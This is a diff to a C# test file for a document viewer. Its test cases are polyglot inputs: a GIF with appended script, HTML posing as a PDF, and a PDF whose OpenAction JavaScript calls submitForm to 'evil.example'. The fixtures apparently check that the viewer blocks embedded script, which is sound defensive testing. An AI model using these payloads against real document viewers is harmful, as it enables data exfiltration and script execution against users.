@@ -85,7 +85,7 @@ sealed class ViewerTests
         yield return new TestCaseData(gif.Concat(System.Text.Encoding.ASCII.GetBytes($"*/=1;{Script}")).ToArray()).SetArgDisplayNames(
             "GIF with HTML");
         yield return new TestCaseData(Papers.Pdf("x",
-            $"/OpenAction << /S /JavaScript /JS (app.alert\\('{Officer.OfViewer}'\\); this.submitForm\\('https://evil.example'\\)) >>"))
+            $"/OpenAction << /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('https://evil.example'\\)) >>"))
             .SetArgDisplayNames("PDF with script");
         yield return new TestCaseData(System.Text.Encoding.ASCII.GetBytes($"<html>{Script}<!-- ").Concat(Papers.Pdf("x")).ToArray())
             .SetArgDisplayNames("HTML that is a PDF");
@@ -129,7 +129,11 @@ sealed class ViewerTests
 
         await officer.ShowValues(customer);
         if (await officer.Page.Locator("summary:has-text('PDF')").CountAsync() > 0)
+        {
+            var shown = officer.Page.WaitForResponseAsync(response => response.Url.EndsWith("/pages", StringComparison.Ordinal));
             await officer.Page.ClickAsync("summary:has-text('PDF')");
+            await (await shown).FinishedAsync();
+        }
         var path = await officer.Page.Locator("td a[target=_blank]").GetAttributeAsync("href");
         var response = await officer.Context.APIRequest.GetAsync(path!);
 
